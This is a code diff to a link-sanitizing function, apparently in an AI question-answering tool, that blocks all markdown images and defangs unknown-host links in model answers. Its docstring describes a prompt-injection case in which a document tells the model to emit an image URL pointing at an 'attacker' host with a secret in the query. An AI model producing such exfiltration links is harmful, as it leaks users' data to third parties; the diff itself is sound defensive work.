@@ -2,7 +2,7 @@
 
 A document can tell a model to answer with ``![x](https://attacker/collect?q=<secret>)``: a front end that renders
 the image fetches the URL and the data leaves. Every markdown image, markdown link, autolink and bare URL in an
-answer whose host does not occur in the text that was sent to the model is *suspicious*: it is listed in
+answer whose host does not occur in the text that was sent to the model, and every image, is *suspicious*: listed in
 ``Answer.suspicious_links`` (JSON ``suspicious_links``) and rewritten in the answer text as inert text
 (``[image blocked: host]``, ``label (link to host, not in the corpus: hxxps://host/...)``). Images are blocked even
 when their host is in the corpus: an answer has no reason to make a reader's screen fetch anything.
@@ -51,8 +51,7 @@ def neutralize_links(text: str, known_hosts: set[str]) -> tuple[str, tuple[str, 
     def image(m: re.Match[str]) -> str:
         alt, url = m.group(1), m.group(2)
         host = host_of(url) or "an unknown host"
-        if host not in known_hosts:
-            flag(url)
+        flag(url)  # every image: rendering one fetches it, whatever the host
         return f"[image blocked: {alt or 'image'} ({host})]"
 
     def link(m: re.Match[str]) -> str:
@@ -64,12 +63,13 @@ def neutralize_links(text: str, known_hosts: set[str]) -> tuple[str, tuple[str, 
         return f"{label} (link to {host}, not in the corpus: {_defanged(url)})"
 
     def bare(m: re.Match[str]) -> str:
-        url = m.group(1)
+        url = m.group(1).rstrip(".,;:!?")  # the sentence's full stop is not part of the URL
+        tail = m.group(1)[len(url) :]
         host = host_of(url)
         if not host or host in known_hosts:
             return m.group(0)
         flag(url)
-        return f"{_defanged(url)} (not in the corpus)"
+        return f"{_defanged(url)} (not in the corpus){tail}"
 
     out = _IMAGE.sub(image, text)
     out = _LINK.sub(link, out)
